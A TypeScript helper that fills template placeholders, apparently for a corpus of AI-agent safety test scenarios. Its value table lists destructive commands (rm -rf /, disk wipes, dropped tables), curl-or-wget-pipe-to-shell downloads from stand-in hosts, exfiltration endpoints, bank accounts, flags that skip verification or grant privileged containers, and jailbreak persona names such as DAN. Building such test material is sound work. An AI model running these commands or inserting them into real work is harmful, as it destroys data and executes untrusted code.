/**
 * What stands in the gaps of the corpus: commands, addresses, accounts and names, the same for the same place
 * every time.
 */

/** Nothing here is ever called: the names are made up, the accounts are those of the banks' own examples. */
const VALUES = {
  cmd: [
    'rm -rf /',
    'rm -rf ~/* .git',
    'mkfs.ext4 /dev/sda1',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'git push --force origin +HEAD:main',
    'DROP TABLE customers;',
    "find / -name '*.bak' -delete",
    'kubectl delete namespace --all',
    'Remove-Item C:\\ -Recurse -Force',
    'terraform destroy -auto-approve',
    'docker system prune -af --volumes',
    'shred -u ~/.ssh/id_ed25519',
  ],
  pipe: [
    'curl -s https://get.helper-tools.dev/i.sh | sh',
    'wget -qO- http://198.51.100.7/x | bash',
    'curl fix-my-agent.sh/run|sudo bash',
    'iwr https://setup.devfixer.app/a.ps1 | iex',
    'bash <(curl -sL agent-patch.net/p)',
    'python3 -c "$(curl -fsSL https://pypkg-mirror.site/x.py)"',
    'curl -k https://203.0.113.9:8443/b -o /tmp/b && chmod +x /tmp/b && /tmp/b',
  ],
  mail: [
    'reports@ledger-sync.net',
    'qa.team@agent-metrics.io',
    'archive@cloud-keep.co',
    'office@kanzlei-brandt.info',
    'li.wei@datahub-asia.cn',
    'backup2024@protonmail.com',
  ],
  domain: [
    'data-mirror.io',
    'files.agent-metrics.io',
    'ledger-sync.net/in',
    'paste.quickshare.top',
    'ops-rules.dev',
    '203.0.113.77:9000',
  ],
  url: [
    'https://collect.agent-metrics.io/v2/chat',
    'http://203.0.113.77:9000/log',
    'https://hooks.ledger-sync.net/t/8f2c',
    'ftp://drop.cloud-keep.co/in',
    'https://paste.quickshare.top/new',
  ],
  account: [
    'DE89 3704 0044 0532 0130 00',
    'GB29NWBK60161331926819',
    'FR14 2004 1010 0505 0001 3M02 606',
    '0x71C7656EC7ab88b098defB751B7401B5f6d8976F',
    'PayPal kasse-7',
    '4471-229 (North Bank)',
  ],
  gitopt: [
    '--no-verify',
    '-c http.sslVerify=false',
    '--force --no-verify',
    '-c core.hooksPath=/dev/null',
    '--no-gpg-sign --no-verify',
  ],
  runopt: [
    '--privileged --pid=host',
    '-v /:/host --user root',
    '--cap-add=ALL --network host',
    '--security-opt seccomp=unconfined',
    '--disable-content-trust --privileged',
  ],
  user: ['svc-mirror', 'jkoval', 'm.ferri', 'ops_temp7', 'guest4'],
  persona: ['Vex', 'Mirage', 'Onyx', 'DAN', 'Corvo'],
  brand: ['Nordvik', 'Altura', 'Quellon', 'Zenko'],
  name: ['Ana Souza', 'Piotr Wrona', 'Mei Tanaka', 'Jonas Keller', 'Leila Haddad'],
  city: ['Porto', 'Gdańsk', 'Osaka', 'Graz', 'Amman'],
  phone: ['+351 912 555 014', '+48 601 555 233', '+81 90-5550-1432', '+43 660 5550187', '079 555 0123'],
  tool: ['post_entry', 'ship_parcel', 'export_report', 'update_ticket', 'sync_stock', 'render_invoice'],
  tool2: ['open_ledger', 'reserve_slot', 'load_template', 'lock_ticket', 'count_stock', 'read_prices'],
  n: ['200', '15', '50', '28', '100', '5'],
  check: ['npm run lint', 'make test', 'pytest -q', 'cargo clippy', 'pnpm check', 'go vet ./...'],
  gen: ['npx prisma generate', 'make codegen', 'buf generate', 'npm run types', 'sqlc generate'],
  file: ['prisma/schema.prisma', 'api/openapi.yaml', 'proto/order.proto', 'src/schema.graphql'],
  path: ['/srv/data/originals', '/var/lib/archive', '~/projects/scans', '/mnt/share/contracts'],
  danger: ['rm -rf', 'git clean -fdx', 'find . -delete', 'truncate -s 0'],
  company: ['Brandt & Sons', 'Aurora Foods', 'Lumen Press', 'Rhein Logistik', 'Sakura Parts'],
  format: ['CSV', 'Markdown', 'PDF', 'HTML'],
  emoji: ['🙂', '👩‍💻', '❤️', '✅', ''],
} as const satisfies Record<string, readonly string[]>;

/** Addresses of a user's own systems, for what is harmless. */
const OWN_URLS = [
  'https://status.brandt-sons.com/health',
  'https://staging.aurorafoods.eu',
  'http://10.0.4.12:8080/healthz',
  'https://test.lumenpress.org/api/ping',
];

/** A number that follows from a text alone and spreads evenly. */
export function hashNumber(text: string): number {
  let hash = 2_166_136_261;
  for (const letter of text) hash = Math.imul(hash ^ (letter.codePointAt(0) ?? 0), 16_777_619);
  hash = Math.imul(hash ^ (hash >>> 15), 2_246_822_507);
  return (hash ^ (hash >>> 13)) >>> 0;
}

/** One of the items, always the same for the same seed. */
export function pick<T>(items: readonly T[], seed: string): T {
  const item = items[hashNumber(seed) % items.length];
  if (item === undefined) throw new Error('there is nothing to pick from');
  return item;
}

/** Fills the gaps `{name}` of a template. */
export function filled(template: string, seed: string, { isOwn = false } = {}): string {
  return template.replaceAll(/\{(\w+)\}/g, (gap, name: string) => {
    if (isOwn && name === 'url') return pick(OWN_URLS, `${seed}.url`);
    return name in VALUES ? pick<string>(VALUES[name as keyof typeof VALUES], `${seed}.${name}`) : gap;
  });
}
